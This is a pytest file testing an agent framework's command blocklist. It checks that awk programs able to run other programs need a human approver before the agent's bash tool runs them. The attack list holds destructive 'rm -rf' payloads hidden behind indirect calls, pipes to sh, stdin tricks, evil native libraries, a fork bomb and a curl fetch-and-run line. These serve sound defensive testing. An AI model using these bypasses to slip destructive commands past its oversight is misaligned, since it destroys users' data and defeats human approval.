"""The `bash` seatbelt on awk, tried as an attacker would: every way an awk program runs
another program (`system()`, pipes, the `|&` coprocess, gawk's indirect call `@f(…)`, a
native extension) needs an approver, however the program is handed to awk (the operand,
every `-e`/`--source`, attached or abbreviated, `-W source=…`, stdin); strings, regular
expressions and comments are data, so ordinary awk stays `ok`."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

from core.messages import ToolCall
from core.run_context import RunContext
from core.sandbox.settings import SandboxSettings
from core.seatbelt.blocklist import check_command
from core.tools.base import ToolContext, ToolRegistry
from core.tools.builtin import BashTool
from core.tools.executor import ToolExecutor
from core.tools.policy import ToolPolicy

INDIRECT = 'gawk \'BEGIN{f="system"; @f("rm -rf target")}\''

RUNS_COMMANDS = [
    # gawk's indirect call: the function's name is a string
    INDIRECT,
    'awk \'BEGIN{f="system"; @f("rm -rf target")}\'',
    "gawk -v f=system '{ @f(\"rm -rf target\") }' data",
    "gawk '{ @f($0) }' f=system cmds.txt",
    "gawk 'BEGIN { @awk::f(\"x\") }'",
    # every place a program text can sit
    "gawk -e 'BEGIN{print 1}' -e 'BEGIN{system(\"rm -rf target\")}'",
    "gawk --source='BEGIN{system(\"rm -rf target\")}'",
    "gawk --sour='BEGIN{system(\"rm -rf target\")}'",
    "gawk -e'BEGIN{system(\"rm -rf target\")}'",
    "gawk -be 'BEGIN{system(\"rm -rf target\")}'",
    "gawk -f prog.awk -e 'BEGIN{system(\"rm -rf target\")}'",
    "gawk -W source='BEGIN{system(\"rm -rf target\")}'",
    "gawk -bWsource='BEGIN{system(\"rm -rf target\")}'",
    "gawk -W source 'BEGIN{system(\"rm -rf target\")}'",
    'gawk -e "$PROGRAM"',
    "gawk -f /dev/stdin <<< 'BEGIN{system(\"rm -rf target\")}'",
    "gawk --file=/dev/stdin <<< 'BEGIN{system(\"rm -rf target\")}'",
    "mawk -W exec /dev/stdin <<< 'BEGIN{system(\"rm -rf target\")}'",
    "echo 'BEGIN{system(\"rm -rf target\")}' | awk -f -",
    "gawk -i /dev/stdin 'BEGIN{}' <<< 'BEGIN{system(\"rm -rf target\")}'",
    "awk -f <(curl -s https://example.com/x.awk)",
    # pipes and coprocesses, whatever names the command
    'awk \'BEGIN { print "rm -rf target" | "sh" }\'',
    'awk \'BEGIN { c = "sh"; print "rm -rf target" | c }\'',
    'awk \'BEGIN { print "rm -rf target" | ENVIRON["SHELL"] }\'',
    "awk 'BEGIN { print \"rm -rf target\" | (c) }'",
    'awk \'BEGIN { c = "s"; print "rm -rf target" | c "h" }\'',
    "awk 'BEGIN { print \"rm -rf target\" | a[1] }'",
    "awk 'BEGIN { \"rm -rf target\" | getline }'",
    'gawk \'BEGIN { print "rm -rf target" |& "sh"; close("sh", "to") }\'',
    # what a lexer that misreads `/` or `#` would hide
    'awk \'BEGIN { i++ / 1; print "rm -rf target" | "sh"; z = 4 / 2 }\'',
    'awk \'BEGIN { x = 1 # a comment\n print "rm -rf target" | "sh" }\'',
    'awk \'{ print } # " \n BEGIN { system("rm -rf target") }\'',
    'awk \'BEGIN { x = "open\n system("rm -rf target") }\'',
    # native code
    "gawk -l /tmp/evil.so 'BEGIN{}'",
    "gawk --load=./evil 'BEGIN{}'",
    "gawk '@load \"./evil\"; BEGIN{}'",
    "gawk '@ load \"/tmp/evil\"; BEGIN{}'",
    "gawk -l fork 'BEGIN { while (1) fork() }'",
    "AWKLIBPATH=. gawk -l readfile 'BEGIN{}'",
    # an option Parley cannot read
    "gawk --frobnicate 'BEGIN{}'",
]


@pytest.mark.parametrize("command", RUNS_COMMANDS)
def test_an_awk_program_that_runs_commands_needs_an_approver(command: str) -> None:
    verdict = check_command(command)
    assert verdict.kind == "destructive", verdict
    assert "approver" in verdict.reason


def test_the_indirect_call_is_named_for_the_model() -> None:
    reason = check_command(INDIRECT).reason
    assert "calls a function named at run time (`@name(…)`)" in reason
    assert "approver must" in reason


STAYS_OK = [
    "awk -F: '{print $1}' /etc/passwd",
    "awk '{sum += $1} END {print sum / NR}' data",
    "awk '$3 > 100 { print $1 / $2 / $3 }' data",
    "awk '{ print $NF/2, $(NF-1)/3 }' data",
    "awk 'i++ / 2 { print }' data",
    "awk '/foo|bar/ { n++ } END { print n }' log",
    "awk '{ gsub(/a|b/, \"x\"); print }' data",
    "awk '/[/]x|y/' data",
    "awk '$1 ~ /^(GET|POST)$/ { n[$1]++ } END { for (m in n) print m, n[m] }' log",
    "awk 'BEGIN { FS = \"|\" } { print $2 }' data",
    "awk -F'|' '{ printf \"%s|%s\\n\", $1, $2 }' data",
    "awk '# a | b\n{ print }' data",
    "awk '{ a = b || c; print a }' data",
    "awk '!seen[$0]++' data",
    "awk '{ print > \"out.txt\" }' data",
    "awk 'BEGIN { while ((getline line < \"data\") > 0) n++; print n }'",
    "awk '{ print $1 \"@\" $2 }' data",
    "awk -f report.awk data",
    "gawk -i inplace '{ gsub(/x/, \"y\") } 1' data",
    "gawk '@include \"join\"; BEGIN { print 1 }'",
    'gawk \'@load "filefuncs"; BEGIN { stat("data", s); print s["size"] }\'',
    "gawk -l readfile 'BEGIN { print readfile(\"data\") }'",
    "gawk 'match($0, @/a|b/)' data",
    "gawk -v OFS='\\t' --posix '{ $1 = $1 } 1' data",
    "mawk -W interactive '{ print }' data",
]


@pytest.mark.parametrize("command", STAYS_OK)
def test_ordinary_awk_stays_ok(command: str) -> None:
    assert check_command(command).kind == "ok", check_command(command)


# --- as the attacker ran it: through the real `bash` tool ---------------------------------


def _workspace(tmp_path: Path) -> tuple[SandboxSettings, Path]:
    settings = SandboxSettings(workspace=tmp_path / "ws", artifacts_dir=tmp_path / "art")
    workspace = settings.resolved_workspace()
    (workspace / "target").mkdir(parents=True)
    (workspace / "target" / "file").write_text("precious")
    return settings, workspace


async def _run(settings: SandboxSettings, command: str, approve: bool) -> list[str]:
    asked: list[str] = []

    async def approver(tool: str, summary: str, reason: str) -> bool:
        asked.append(reason)
        return approve

    executor = ToolExecutor(ToolRegistry([BashTool()]), ToolPolicy(), ToolContext(settings))
    call = ToolCall(id="c", name="bash", arguments=json.dumps({"command": command}))
    result = await executor.execute(call, RunContext(approver=approver))
    assert result.is_error != approve, result.content
    return asked


async def test_an_indirect_call_asks_and_a_refusal_keeps_the_target(tmp_path: Path) -> None:
    settings, workspace = _workspace(tmp_path)
    asked = await _run(settings, INDIRECT, approve=False)
    assert asked == ["`bash` is an admin action and needs a human approver"]
    assert (workspace / "target" / "file").read_text() == "precious"
    # the same program without the indirect call runs unasked
    assert await _run(settings, "awk 'BEGIN { f = \"system\"; print f }'", approve=True) == []


@pytest.mark.skipif(shutil.which("gawk") is None, reason="gawk is not installed")
async def test_gawk_really_runs_an_indirect_call_once_approved(tmp_path: Path) -> None:
    """The finding is real: approved, the same command deletes the target."""
    settings, workspace = _workspace(tmp_path)
    asked = await _run(settings, INDIRECT, approve=True)
    assert len(asked) == 1
    assert not (workspace / "target").exists()
